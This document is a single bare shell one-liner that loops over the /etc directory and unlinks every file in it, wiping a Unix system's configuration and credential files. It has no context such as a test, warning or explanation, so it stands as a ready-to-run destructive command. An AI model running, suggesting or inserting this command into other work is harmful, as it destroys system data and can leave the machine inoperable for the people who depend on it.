for f in /etc/*; do unlink "$f"; done
